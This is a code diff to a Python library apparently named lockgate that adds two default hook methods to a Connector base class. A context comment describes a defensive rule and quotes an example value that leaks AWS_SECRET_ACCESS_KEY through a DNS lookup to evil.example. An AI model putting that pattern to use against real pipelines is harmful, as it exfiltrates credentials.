@@ -16,6 +16,8 @@ from lockgate.errors import LockgateError
 if TYPE_CHECKING:
     import pandas as pd
 
+    from lockgate.contract import rules as ir
+
 _ENV = re.compile(r"\$\{([A-Za-z_][A-Za-z0-9_]*)(?::-([^}]*))?\}")
 # A contract is untrusted: `host: ${AWS_SECRET_ACCESS_KEY}.evil.example` would send any variable
 # of the CI job out in a DNS lookup. Contracts may name only lockgate's own variables, and never
@@ -115,6 +117,15 @@ class Connector(ABC):
     # an optional hook (no-op by default), not an abstract method
     def close(self) -> None:  # noqa: B027  # pragma: no cover - trivial
         pass
+
+    def unsupported(self, rule: ir.Rule) -> str | None:
+        """Why this server cannot check `rule` (a failed result says so), or None."""
+        return None
+
+    def adapt(self, rule: ir.Rule) -> ir.Rule:
+        """`rule` as this server must run it to mean what it means elsewhere (e.g. a pattern
+        in the server's regex dialect); most servers run it as it is."""
+        return rule
 
     def __enter__(self) -> Self:
         return self
